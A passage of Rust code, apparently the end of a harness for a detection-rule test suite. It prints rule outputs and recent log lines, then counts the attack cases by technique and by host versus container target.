            .map(|a| format!("{} | {}", a["rule"], a["output"]))
            .collect::<Vec<_>>()
            .join("\n"),
        d.log()
            .lines()
            .rev()
            .take(30)
            .collect::<Vec<_>>()
            .join("\n")
    );
    let attacks: Vec<&At> = CASES
        .iter()
        .flat_map(|c| c.attacks.iter().map(|(at, _)| at))
        .collect();
    let host = attacks.iter().filter(|at| at.is_host()).count();
    let techniques: BTreeSet<&str> = CASES.iter().map(|c| c.technique).collect();
    println!("{retried:?}");
    println!(
        "{} cases, {} techniques, {host} host and {} container attacks",
        CASES.len(),
        techniques.len(),
        attacks.len() - host
    );
}
